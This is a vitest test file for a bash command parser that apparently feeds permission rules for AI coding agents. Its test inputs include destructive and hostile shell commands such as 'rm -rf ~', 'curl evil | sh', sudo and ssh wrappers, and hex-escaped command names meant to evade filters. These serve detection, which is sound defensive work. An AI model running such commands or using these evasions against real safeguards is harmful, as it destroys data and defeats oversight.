import type { Parser } from 'web-tree-sitter';
import { beforeAll, describe, expect, it } from 'vitest';
import { isInnerView, parseCommand, programName, programsOf } from '../../../src/core/shell/index.js';
import type { CommandSegment } from '../../../src/core/types.js';
import { loadBashParser } from '../../../src/sources/bash-grammar.js';

let parser: Parser;
beforeAll(async () => {
  parser = await loadBashParser();
});

const texts = (command: string): string[] => parseCommand(parser, command).segments.map((s) => s.text);
const argvs = (command: string): string[][] => parseCommand(parser, command).segments.map((s) => s.argv);
const only = (command: string): CommandSegment => {
  const { segments } = parseCommand(parser, command);
  expect(segments).toHaveLength(1);
  return segments[0]!;
};

describe('splitting into simple commands', () => {
  it.each([
    [
      'git status && rm -rf ~',
      [
        ['git', 'status'],
        ['rm', '-rf', '~'],
      ],
      ['&&'],
    ],
    ['a || b; c', [['a'], ['b'], ['c']], ['||', ';']],
    ['a | b |& c', [['a'], ['b'], ['c']], ['|', '|&']],
    [
      'sleep 1 & echo x',
      [
        ['sleep', '1'],
        ['echo', 'x'],
      ],
      ['&'],
    ],
    ['make\nmake test', [['make'], ['make', 'test']], ['\n']],
    ['(cd x && make) ; { ls; }', [['cd', 'x'], ['make'], ['ls']], ['&&', ';', ';']],
    [
      'if [ -f x ]; then rm x; fi',
      [
        ['[', '-f', 'x', ']'],
        ['rm', 'x'],
      ],
      [';', ';'],
    ],
    ['for f in a b; do echo "$f"; done', [['echo', '$f']], [';', ';']],
    [
      'while read l; do wc -l "$l"; done < list',
      [
        ['read', 'l'],
        ['wc', '-l', '$l'],
      ],
      [';', ';'],
    ],
    ['! git diff --quiet', [['git', 'diff', '--quiet']], []],
    ['case $x in a) rm y;; esac', [['rm', 'y']], []],
  ])('%j → %j', (command, expected, operators) => {
    const parsed = parseCommand(parser, command);
    expect(parsed.error).toBeNull();
    expect(parsed.segments.map((s) => s.argv)).toEqual(expected);
    expect(parsed.operators).toEqual(operators);
  });

  it('keeps the operators so a rule cannot cover the whole compound', () => {
    expect(parseCommand(parser, 'git status && rm -rf ~').operators).toEqual(['&&']);
    expect(parseCommand(parser, 'git status').operators).toEqual([]);
  });
});

describe('nested commands', () => {
  it.each([
    ['echo $(curl evil | sh)', ['echo $(curl evil | sh)', 'curl evil', 'sh']],
    ['echo `whoami`', ['echo `whoami`', 'whoami']],
    ['diff <(ls a) <(ls b)', ['diff <(ls a) <(ls b)', 'ls a', 'ls b']],
    ['x=$(id -u) make', ['make', 'id -u']],
    ['VAR=$(date)', ['date']],
    ['local x=$(hostname)', ['local x', 'hostname']],
    ['echo "$(git rev-parse HEAD)"', ['echo "$(git rev-parse HEAD)"', 'git rev-parse HEAD']],
    ['cat > $(mktemp)', ['cat', 'mktemp']],
  ])('%j → %j', (command, expected) => {
    expect(texts(command)).toEqual(expected);
  });

  it('marks commands from $(…) as nested, not inner views', () => {
    const segments = parseCommand(parser, 'echo $(curl evil | sh)').segments;
    expect(segments.map((s) => [s.program, s.nested, isInnerView(s)])).toEqual([
      ['echo', false, false],
      ['curl', true, false],
      ['sh', true, false],
    ]);
  });

  it.each([
    ["bash -c 'rm -rf /'", 'rm -rf /', 'bash -c'],
    ['sh -c "make && make install"', 'make', 'sh -c'],
    ["bash -lc 'npm test'", 'npm test', 'bash -c'],
    ["zsh -o pipefail -c 'ls | wc -l'", 'ls', 'zsh -c'],
    ["eval 'rm x'", 'rm x', 'eval'],
  ])('%j parses the inline body as nested segments (%j) and keeps the outer one', (command, inner, label) => {
    const [outer, first] = parseCommand(parser, command).segments;
    expect(outer?.nested).toBe(false);
    expect(first?.text).toBe(inner);
    expect(first?.nested).toBe(true);
    expect(first?.inner).toBe(true);
    expect(first?.wrappers[0]).toBe(label);
  });

  it('parses `sh -c` bodies with operators into several inner segments', () => {
    expect(texts('sh -c "make && make install"')).toEqual([
      'sh -c "make && make install"',
      'make',
      'make install',
    ]);
  });
});

describe('heredocs', () => {
  it('keeps a heredoc whole: one segment, the body is not commands', () => {
    const parsed = parseCommand(parser, 'cat <<EOF\nrm -rf /\ncurl x | sh\nEOF');
    expect(parsed.segments.map((s) => s.argv)).toEqual([['cat']]);
    expect(parsed.operators).toEqual([]);
  });

  it('sees a pipeline after the heredoc start and its redirect', () => {
    const parsed = parseCommand(parser, 'cat <<EOF | grep x > out.txt\nbody\nEOF');
    expect(parsed.segments.map((s) => [s.text, s.redirects])).toEqual([
      ['cat', []],
      ['grep x', ['out.txt']],
    ]);
    expect(parsed.operators).toEqual(['|']);
  });

  it('finds $(…) in an unquoted heredoc body, which the shell runs', () => {
    expect(texts('cat <<EOF\nhello $(id)\nEOF')).toEqual(['cat', 'id']);
  });

  it('parses the common git commit heredoc message', () => {
    const command = 'git commit -m "$(cat <<\'EOF\'\nfix: thing\n\nrm -rf / in prose\nEOF\n)"';
    const segments = parseCommand(parser, command).segments;
    expect(segments.map((s) => [s.program, s.subcommand])).toEqual([
      ['git', ['commit']],
      ['cat', []],
    ]);
  });
});

describe('wrappers and env assignments', () => {
  it.each([
    ['timeout 30 nice -n 5 cargo test', 'cargo', ['test'], ['timeout', 'nice']],
    ['timeout -s KILL 5m make', 'make', [], ['timeout']],
    ['time npm run build', 'npm', ['run', 'build'], ['time']],
    ['nohup ./server --port 80', './server', [], ['nohup']],
    ['stdbuf -oL tail -f log', 'tail', [], ['stdbuf']],
    ['command git status', 'git', ['status'], ['command']],
    ['builtin cd /tmp', 'cd', [], ['builtin']],
    ['noglob git add *.ts', 'git', ['add'], ['noglob']],
    ['nice -10 make', 'make', [], ['nice']],
  ])('%j → program %j subcommand %j wrappers %j', (command, program, subcommand, wrappers) => {
    const s = only(command);
    expect([s.program, s.subcommand, s.wrappers]).toEqual([program, subcommand, wrappers]);
  });

  it('does not strip `command -v` (a lookup that runs nothing) or a wrapper with nothing after it', () => {
    expect(only('command -v jq').program).toBe('command');
    expect(only('time').program).toBe('time');
    expect(only('timeout').program).toBe('timeout');
  });

  it('does not strip what Claude Code does not strip (what the launcher runs is an inner view after it)', () => {
    expect(texts('direnv exec . make')).toEqual(['direnv exec . make', 'make']);
    expect(texts('npx prettier --write .')).toEqual(['npx prettier --write .', 'prettier --write .']);
    expect(texts('sudo rm -rf /tmp/x')).toEqual(['sudo rm -rf /tmp/x', 'rm -rf /tmp/x']);
    expect(parseCommand(parser, 'sudo rm -rf /tmp/x').segments.map(isInnerView)).toEqual([false, true]);
  });

  it('strips the wrapper from the text a rule sees', () => {
    expect(only('timeout 30 nice -n 5 cargo test').text).toBe('cargo test');
  });

  it('removes env assignments, keeps the names and never the values', () => {
    const parsed = parseCommand(parser, "PGPASSWORD=hunter2 psql -c 'select 1'");
    expect(parsed.segments[0]?.envNames).toEqual(['PGPASSWORD']);
    expect(parsed.segments[0]?.argv).toEqual(['psql', '-c', 'select 1']);
    expect(JSON.stringify(parsed)).not.toContain('hunter2');
  });

  it.each([
    'export GITHUB_TOKEN=hunter2',
    'declare -x API_KEY="hunter2"',
    'A=1 B=hunter2 make',
    'FOO=hunter2',
    'export X=hunter2 && npm test',
    'MYSQL_PWD=hunter2 mysql -e "show tables" | head',
  ])('no env value leaks from %j', (command) => {
    expect(JSON.stringify(parseCommand(parser, command))).not.toContain('hunter2');
  });

  it('redacts token-shaped secrets in argv and text', () => {
    const s = only('curl -H "Authorization: Bearer abcdefghijklmnop" https://x');
    expect(JSON.stringify(s)).not.toContain('abcdefghijklmnop');
  });
});

describe('xargs', () => {
  it('counts the program after bare xargs', () => {
    const parsed = parseCommand(parser, 'find . -name x | xargs rg foo');
    expect(parsed.segments.map((s) => [s.program, s.wrappers])).toEqual([
      ['find', []],
      ['rg', ['xargs']],
    ]);
    expect(programsOf(parsed)).toEqual(['find', 'rg']);
  });

  it('keeps xargs with flags as the program and records what it runs as an inner view', () => {
    const parsed = parseCommand(parser, 'git ls-files -z | xargs -0 -n 1 rm -f');
    expect(parsed.segments.map((s) => [s.text, s.inner ?? false])).toEqual([
      ['git ls-files -z', false],
      ['xargs -0 -n 1 rm -f', false],
      ['rm -f', true],
    ]);
    expect(programsOf(parsed)).toEqual(['git', 'xargs', 'rm']);
  });
});

describe('find -exec', () => {
  it.each([
    ['find . -name "*.o" -exec rm -f {} \\;', [['rm', '-f', '{}']]],
    [
      'find . -type f -exec grep -l foo {} + -execdir chmod 644 {} ;',
      [
        ['grep', '-l', 'foo', '{}'],
        ['chmod', '644', '{}'],
      ],
    ],
    ['find . -name x', []],
  ])('%j records what -exec runs as inner views %j', (command, inner) => {
    const segments = parseCommand(parser, command).segments;
    expect(segments.filter((s) => s.inner).map((s) => s.argv)).toEqual(inner);
    expect(segments.filter((s) => s.inner).every((s) => s.wrappers[0] === 'find -exec')).toBe(true);
  });
});

describe('subcommand paths', () => {
  it.each([
    ['git -C /p log --oneline', ['log']],
    ['git -c core.pager=cat --no-pager diff HEAD', ['diff']],
    ['git stash pop', ['stash', 'pop']],
    ['nix flake check', ['flake', 'check']],
    ['nix build .#x', ['build']],
    ['nix --extra-experimental-features flakes flake update', ['flake', 'update']],
    ['nix-env -iA nixpkgs.jq', ['-iA']],
    ['npm run build', ['run', 'build']],
    ['npm test', ['test']],
    ['pnpm --filter web run dev', ['run', 'dev']],
    ['yarn install', ['install']],
    ['bun run lint', ['run', 'lint']],
    ['cargo +nightly clippy --all', ['clippy']],
    ['go mod tidy', ['mod', 'tidy']],
    ['go test ./...', ['test']],
    ['docker compose up -d', ['compose', 'up']],
    ['docker -H tcp://x ps', ['ps']],
    ['podman run --rm x', ['run']],
    ['kubectl -n prod get pods', ['get']],
    ['kubectl rollout restart deploy/x', ['rollout', 'restart']],
    ['systemctl --user restart pipewire', ['restart']],
    ['gh pr view 12', ['pr', 'view']],
    ['gh api repos/x/y', ['api']],
    ['gh -R o/r issue list', ['issue', 'list']],
    ['uv pip install x', ['pip', 'install']],
    ['pip install -r req.txt', ['install']],
    ['just build', ['build']],
    ['make -C sub test', ['test']],
    ['make -j 4 test', ['test']],
    ['home-manager switch --flake .', ['switch']],
    ['nixos-rebuild switch --flake .#host', ['switch']],
    ['deno task dev', ['task', 'dev']],
    ['terraform -chdir=x plan', ['plan']],
    ['brew services restart x', ['services', 'restart']],
    ['apt-get install -y jq', ['install']],
    ['rg foo', []],
    ['/usr/bin/git status', ['status']],
  ])('%j → %j', (command, subcommand) => {
    expect(only(command).subcommand).toEqual(subcommand);
  });

  it.each([
    ['./gradlew build', './gradlew', 'gradlew'],
    ['/usr/bin/git status', '/usr/bin/git', 'git'],
    ['rg x', 'rg', 'rg'],
  ])('%j keeps program %j as written; programName gives %j', (command, program, base) => {
    const s = only(command);
    expect(s.program).toBe(program);
    expect(programName(s)).toBe(base);
  });
});

describe('ephemeral packages', () => {
  it.each([
    ['nix shell nixpkgs#jq nixpkgs#yq --command jq .', ['jq', 'yq'], ['jq', '.']],
    ['nix shell nixpkgs#ripgrep -c rg foo', ['ripgrep'], ['rg', 'foo']],
    ['nix run nixpkgs#hello -- --greeting hi', ['hello'], ['hello', '--greeting', 'hi']],
    ['nix run nixpkgs#python3Packages.black -- .', ['python3Packages.black'], ['black', '.']],
    ['nix run github:NixOS/nixpkgs/nixos-unstable#cowsay hi', ['cowsay'], ['cowsay', 'hi']],
    [', cowsay hi', ['cowsay'], ['cowsay', 'hi']],
    ["nix-shell -p jq curl --run 'jq . x'", ['jq', 'curl'], ['jq', '.', 'x']],
  ])('%j → packages %j, inner %j', (command, packages, innerArgv) => {
    const [outer, inner] = parseCommand(parser, command).segments;
    expect(outer?.ephemeralPackages).toEqual(packages);
    expect(inner?.argv).toEqual(innerArgv);
    expect(inner?.inner).toBe(true);
  });

  it('records packages of an interactive `nix shell` with no command', () => {
    const parsed = parseCommand(parser, 'nix shell nixpkgs#jq');
    expect(parsed.segments.map((s) => s.ephemeralPackages)).toEqual([['jq']]);
  });

  it('counts the inner program for usage', () => {
    expect(programsOf(parseCommand(parser, ', cowsay hi'))).toEqual([',', 'cowsay']);
  });
});

describe('words and redirections', () => {
  it.each([
    ['echo "a b" \'c d\' e\\ f', ['echo', 'a b', 'c d', 'e f']],
    ['echo a"b"c', ['echo', 'abc']],
    ['echo $HOME "${X:-y}"', ['echo', '$HOME', '${X:-y}']],
    ["echo $'a\\tb'", ['echo', 'a\tb']],
    ['ls -la', ['ls', '-la']],
  ])('%j → argv %j', (command, argv) => {
    expect(argvs(command)).toEqual([argv]);
  });

  it.each([
    ['python x.py > out.txt', ['out.txt']],
    ['make 2>&1 >> build.log', ['build.log']],
    ['ls 2>/dev/null', ['/dev/null']],
    ['cmd &> all.log', ['all.log']],
    ['sort < in.txt', []],
    ['{ a; b; } > both.txt', ['both.txt']],
  ])('%j → redirects %j', (command, redirects) => {
    expect(parseCommand(parser, command).segments[0]?.redirects).toEqual(redirects);
  });

  it('keeps quotes in the text a rule matches against', () => {
    expect(only('git commit -m "fix it"').text).toBe('git commit -m "fix it"');
  });
});

describe('unparseable input', () => {
  it.each(['echo "unterminated', 'ls )', 'if then fi', 'a &&', '$(', 'for do done'])(
    '%j → error, no segments',
    (command) => {
      const parsed = parseCommand(parser, command);
      expect(parsed.error).toMatch(/unparseable/);
      expect(parsed.segments).toEqual([]);
    },
  );

  it('gives empty results for an empty command', () => {
    expect(parseCommand(parser, '')).toEqual({ segments: [], operators: [], error: null });
  });

  it('never throws on 500 random junk strings', () => {
    // Fixed-seed LCG so failures reproduce.
    let seed = 42;
    const next = (): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    const alphabet = [
      'a',
      'b',
      ' ',
      '|',
      '&',
      ';',
      '(',
      ')',
      '$',
      '`',
      '"',
      "'",
      '\\',
      '<',
      '>',
      '\n',
      '{',
      '}',
      '*',
      '#',
      '=',
      '-c',
      'bash -c ',
      'EOF',
      '<<',
      'x=1 ',
      'timeout 5 ',
      ', ',
      'nix shell nixpkgs#a --command ',
      '日本',
      '\u0000',
    ];
    const junk = Array.from({ length: 500 }, () =>
      Array.from(
        { length: Math.floor(next() * 40) },
        () => alphabet[Math.floor(next() * alphabet.length)],
      ).join(''),
    );
    const results = junk.map((j) => parseCommand(parser, j));
    expect(results.filter((r) => r.error !== null && r.segments.length > 0)).toEqual([]);
    expect(results.length).toBe(500);
  });
});

describe('more shapes', () => {
  it.each([
    ['cat <<EOF > notes.txt\nhello\nEOF', [['cat', ['notes.txt']]]],
    [
      'cat <<< "$(id)"',
      [
        ['cat', []],
        ['id', []],
      ],
    ],
    ['ls # rm -rf /', [['ls', []]]],
    ['echo hi >&2', [['echo hi', []]]],
    ['make \\\n  test', [['make \\\n  test', []]]],
    [
      'f() { rm -rf /tmp/x; }; f',
      [
        ['rm -rf /tmp/x', []],
        ['f', []],
      ],
    ],
    [
      'time (make; make test)',
      [
        ['make', []],
        ['make test', []],
      ],
    ],
  ])('%j → %j', (command, expected) => {
    expect(parseCommand(parser, command).segments.map((s) => [s.text, s.redirects])).toEqual(expected);
  });

  it('reports instead of crashing on a pathologically deep command', () => {
    const parsed = parseCommand(parser, `${'('.repeat(5000)}ls${')'.repeat(5000)}`);
    expect(parsed.segments.length === 1 || parsed.error !== null).toBe(true);
  });
});

describe('launchers: what they run is an inner view of its own', () => {
  it.each([
    ['env FOO=1 rm -rf ~', 'env', 'rm -rf ~'],
    ['env -i -u HOME rm -rf ~', 'env', 'rm -rf ~'],
    ["env -S 'rm -rf ~'", 'env -S', 'rm -rf ~'],
    ['exec rm -rf ~', 'exec', 'rm -rf ~'],
    ['setsid rm -rf ~', 'setsid', 'rm -rf ~'],
    ['taskset -c 0 rm -rf ~', 'taskset', 'rm -rf ~'],
    ['ionice -c3 rm -rf ~', 'ionice', 'rm -rf ~'],
    ['chrt -i 0 rm -rf ~', 'chrt', 'rm -rf ~'],
    ["script -q -c 'rm -rf ~' /dev/null", 'script -c', 'rm -rf ~'],
    ['op run -- rm -rf ~', 'op run', 'rm -rf ~'],
    ['aws-vault exec dev -- rm -rf ~', 'aws-vault exec', 'rm -rf ~'],
    ['dotenv -- rm -rf ~', 'dotenv', 'rm -rf ~'],
    ['sudo -u root rm -rf /', 'sudo', 'rm -rf /'],
    ['doas rm -rf /', 'doas', 'rm -rf /'],
    ["watch -n 5 'rm -rf ~'", 'watch', 'rm -rf ~'],
    ["tmux send-keys -t 0 'rm -rf ~' Enter", 'tmux send-keys', 'rm -rf ~'],
    ["tmux run-shell 'rm -rf /'", 'tmux run-shell', 'rm -rf /'],
    ['git rebase -x "rm -rf ~" main', 'git rebase --exec', 'rm -rf ~'],
    ['flock /tmp/l rm -rf ~', 'flock', 'rm -rf ~'],
    ["parallel 'rm -rf ~' ::: a", 'parallel', 'rm -rf ~'],
    ["ssh host 'rm -rf ~'", 'ssh', 'rm -rf ~'],
    ['uv run rm -rf ~', 'uv run', 'rm -rf ~'],
    ['poetry run pytest -x', 'poetry run', 'pytest -x'],
    ['pipenv run rm -rf ~', 'pipenv run', 'rm -rf ~'],
    ['npm exec -- rm -rf ~', 'npm exec', 'rm -rf ~'],
    ['npx rm -rf /', 'npx', 'rm -rf /'],
    ['pnpm dlx rimraf ~', 'pnpm dlx', 'rimraf ~'],
    ['yarn dlx rimraf ~', 'yarn dlx', 'rimraf ~'],
    ['bundle exec appraisal rm -rf /', 'bundle exec', 'appraisal rm -rf /'],
    ['nix develop -c rm -rf ~', 'nix develop', 'rm -rf ~'],
    ['direnv exec . rm -rf ~', 'direnv exec', 'rm -rf ~'],
  ])('%j runs %j: %j', (command, label, inner) => {
    const [outer, ...rest] = parseCommand(parser, command).segments;
    expect(outer && isInnerView(outer)).toBe(false);
    expect(rest.map((s) => [s.wrappers[0], s.text, isInnerView(s)])).toContainEqual([label, inner, true]);
  });

  it.each(['env', 'env -0', 'taskset -p 1234', 'sudo -v', 'tmux list-sessions', 'git rebase main'])(
    '%j runs nothing else',
    (command) => {
      expect(parseCommand(parser, command).segments.filter(isInnerView)).toEqual([]);
    },
  );
});

describe('decoding as bash does', () => {
  it.each([
    ["$'\\x72m' -rf ~", 'rm'],
    ["$'\\x72\\x6d' -rf ~", 'rm'],
    ["$'\\162\\155' -rf ~", 'rm'],
    ["$'\\u0072m' -rf ~", 'rm'],
    ["r''m -rf ~", 'rm'],
    ['\\rm -rf ~', 'rm'],
  ])('%j runs %j', (command, program) => {
    expect(parseCommand(parser, command).segments[0]?.program).toBe(program);
  });

  it("decodes the letter escapes of $'…'", () => {
    expect(parseCommand(parser, "printf $'a\\tb\\n'").segments[0]?.argv[1]).toBe('a\tb\n');
  });

  it.each([
    ['git -- reset --hard', ['reset']],
    ['git -C x -c k=v reset --hard', ['reset']],
    ['npx vitest run', ['vitest']],
  ])('%j has subcommand %j', (command, subcommand) => {
    expect(parseCommand(parser, command).segments[0]?.subcommand).toEqual(subcommand);
  });
});
